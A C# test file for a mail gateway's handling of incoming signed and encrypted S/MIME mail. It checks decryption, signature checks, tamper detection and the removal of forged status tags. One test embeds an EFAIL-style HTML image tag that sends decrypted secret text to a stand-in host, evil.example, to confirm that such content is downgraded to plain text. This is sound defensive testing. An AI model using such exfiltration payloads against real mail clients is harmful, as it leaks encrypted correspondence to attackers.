using Chancery.Engine.Messages;
using Chancery.Engine.Tests.Support;
using Chancery.Mail.Envelopes;
using Chancery.Protection.Smime;

namespace Chancery.Engine.Tests.Protect.Incoming;

/// <summary>What comes signed and encrypted is opened at its root, and delivered as the rules say; what is not proven stays as it came.</summary>
public sealed class IncomingTests
{
    private const string Strip = "rules: [ { id: in, then: [ { decrypt: { policy: strip } }, { verify: { policy: strip } } ] } ]";
    private const string Decrypt = "rules: [ { id: in, then: [ { decrypt: { policy: strip } } ] } ]";
    private const string Annotate = "rules: [ { id: in, then: [ { decrypt: { policy: annotate } }, { verify: { policy: annotate } } ] } ]";
    private const string Reject = "rules: [ { id: in, then: [ { verify: { policy: strip, rejectBad: true } } ] } ]";

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Decrypted_and_verified_it_arrives_in_the_clear_with_the_results(bool opaque)
    {
        await using var house = await HouseAsync(Strip);

        var arrived = await ArriveAsync(house, await Partner.MakeAsync(house, opaque: opaque));

        Assert.Contains("Subject: [decrypted] [signed] Plan\r\n", arrived, StringComparison.Ordinal);
        Assert.Contains("X-Chancery-Info-Encryption: smime; decrypted; cipher=aes-256-gcm\r\n", arrived, StringComparison.Ordinal);
        Assert.Contains("X-Chancery-Info-Signature: smime; valid; signer=bernd@partner.example\r\n", arrived, StringComparison.Ordinal);
        Assert.DoesNotContain("mallory", arrived, StringComparison.Ordinal);
        Assert.EndsWith("MIME-Version: 1.0\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\nSecret words.\r\n", arrived, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_subject_that_was_protected_inside_comes_back()
    {
        await using var house = await HouseAsync(Strip);
        var mail = await Partner.MakeAsync(house, profile: SmimeProfile.BsiStandard with { HeaderProtection = true });
        Assert.Contains("Subject: [...]\r\n", mail, StringComparison.Ordinal);

        var arrived = await ArriveAsync(house, mail.Replace("Subject: [...]", "Subject: something else", StringComparison.Ordinal));

        Assert.Contains("Subject: [decrypted] [signed] Plan\r\n", arrived, StringComparison.Ordinal);
        Assert.DoesNotContain("HP-Outer", arrived, StringComparison.Ordinal);
        Assert.DoesNotContain("something else", arrived, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Decrypted_only_an_opaque_signature_stands_beside_its_content()
    {
        await using var house = await HouseAsync(Decrypt);

        var arrived = await ArriveAsync(house, await Partner.MakeAsync(house, opaque: true));

        Assert.Contains("Content-Type: multipart/signed", arrived, StringComparison.Ordinal);
        Assert.Contains("Secret words.", arrived, StringComparison.Ordinal);
        // Still a signature that fits: it comes in once more, and is verified.
        house.Replace(Strip);
        house.Hop.Taken.Clear();
        Assert.Contains("[signed]", await ArriveAsync(house, arrived), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Annotated_it_stays_as_it_came()
    {
        await using var house = await HouseAsync(Annotate);

        var arrived = await ArriveAsync(house, await Partner.MakeAsync(house));

        Assert.Contains("Subject: [decrypted] [signed] Plan\r\n", arrived, StringComparison.Ordinal);
        Assert.Contains("smime-type=authEnveloped-data", arrived, StringComparison.Ordinal);
        Assert.DoesNotContain("Secret words.", arrived, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Encrypted_to_somebody_else_it_stays_and_says_so()
    {
        await using var house = await HouseAsync(Strip);

        var arrived = await ArriveAsync(house, await Partner.MakeAsync(house, to: "stranger@else.example"));

        Assert.Contains("X-Chancery-Info-Encryption: smime; not decrypted\r\n", arrived, StringComparison.Ordinal);
        Assert.Contains("Subject: Plan\r\n", arrived, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("aes-256-gcm")]
    [InlineData("aes-256-cbc")]
    public async Task Changed_ciphertext_gives_one_and_the_same_answer(string cipher)
    {
        await using var house = await HouseAsync(Strip);
        var profile = SmimeProfile.Of(null, new Dictionary<string, string> { ["content"] = cipher });
        var lines = (await Partner.MakeAsync(house, sign: false, profile: profile)).Split("\r\n");
        var last = Array.FindLastIndex(lines, line => line.Length > 40);
        lines[last] = lines[last][..8] + (lines[last][8] == 'A' ? 'B' : 'A') + lines[last][9..];

        var arrived = await ArriveAsync(house, string.Join("\r\n", lines));

        Assert.DoesNotContain("Secret words.", arrived, StringComparison.Ordinal);
        Assert.True(
            arrived.Contains("X-Chancery-Info-Encryption: smime; not decrypted\r\n", StringComparison.Ordinal) || arrived.Contains("unauthenticated", StringComparison.Ordinal), arrived);
    }

    [Fact]
    public async Task Changed_after_it_was_signed_it_stays_with_a_mark()
    {
        await using var house = await HouseAsync(Strip);
        var mail = (await Partner.MakeAsync(house, to: null)).Replace("Secret words.", "Secret swords", StringComparison.Ordinal);

        var arrived = await ArriveAsync(house, mail);

        Assert.Contains("Subject: [bad-signature] Plan\r\n", arrived, StringComparison.Ordinal);
        Assert.Contains("multipart/signed", arrived, StringComparison.Ordinal);
        Assert.Contains("reason=the content was changed", arrived.Replace("\r\n ", " ", StringComparison.Ordinal), StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_does_not_verify_is_held_where_the_policy_refuses_it()
    {
        await using var house = await HouseAsync(Reject);
        var mail = (await Partner.MakeAsync(house, to: null)).Replace("Secret words.", "Secret swords", StringComparison.Ordinal);

        var record = await house.PassAsync(Partner.Bernd, [House.Anna], mail, SessionTrust.Anonymous);

        Assert.Equal(GroupState.Held, Assert.Single(record.Groups).State);
    }

    [Fact]
    public async Task Tags_that_only_we_write_are_taken_out_of_mail_from_outside()
    {
        await using var house = await HouseAsync(Strip);

        var arrived = await ArriveAsync(house, Partner.Plain.Replace("Subject: Plan", "Subject: [signed] [decrypted] Plan", StringComparison.Ordinal));

        Assert.Contains("Subject: Plan\r\n", arrived, StringComparison.Ordinal);
        Assert.DoesNotContain("X-Chancery-Info", arrived, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Decrypted_without_any_proof_active_content_becomes_text()
    {
        await using var house = await HouseAsync(Strip);
        var profile = SmimeProfile.Of(null, new Dictionary<string, string> { ["content"] = "aes-256-cbc" });
        var html = Partner.Plain.Replace("text/plain", "text/html", StringComparison.Ordinal).Replace("Secret words.", "<img src=\"http://evil.example/?Secret\">", StringComparison.Ordinal);

        var arrived = await ArriveAsync(house, await Partner.MakeAsync(house, html, sign: false, profile: profile));

        Assert.Contains("Subject: [unproven] Plan\r\n", arrived, StringComparison.Ordinal);
        Assert.Contains("Content-Type: text/plain", arrived, StringComparison.Ordinal);
        Assert.DoesNotContain("text/html", arrived, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Rules_see_the_verdict_and_the_content_within()
    {
        await using var house = await HouseAsync(
            """
            rules:
              - { id: signed, if: { crypto.verified: true, crypto.signer: bernd@partner.example, crypto.decrypted: true }, then: [ { header: { add: { name: X-Seen, value: verified } } } ] }
              - { id: named, if: { attachment.any: { name: plan.pdf } }, then: [ { header: { add: { name: X-Within, value: plan } } } ] }
            """);
        var mail = Partner.Plain.Replace(
            "Content-Type: text/plain; charset=us-ascii\r\n", "Content-Type: application/pdf\r\nContent-Disposition: attachment; filename=plan.pdf\r\n", StringComparison.Ordinal);

        var arrived = await ArriveAsync(house, await Partner.MakeAsync(house, mail));

        Assert.Contains("X-Seen: verified\r\n", arrived, StringComparison.Ordinal);
        Assert.Contains("X-Within: plan\r\n", arrived, StringComparison.Ordinal);
        Assert.DoesNotContain("Secret words.", arrived, StringComparison.Ordinal);
    }

    private static async Task<House> HouseAsync(string policy)
    {
        var house = await House.OpenAsync(policy);
        await house.AddKeysAsync(House.Anna, Partner.Bernd);
        using var maker = new Protection.Keys.CertificateMaker("Else", house.Time.GetUtcNow());
        await house.Keys.AddAsync(Policy.TenantId.Default, maker.Anchor, default);
        await house.Keys.AddAsync(Policy.TenantId.Default, maker.MailCertificate("stranger@else.example", "Stranger") with { HasPrivateKey = false, PrivateKey = null }, default);
        return house;
    }

    private static async Task<string> ArriveAsync(House house, string mail)
    {
        await house.PassAsync(Partner.Bernd, [House.Anna], mail, SessionTrust.Anonymous);
        return Assert.Single(house.Hop.Taken).Text;
    }
}
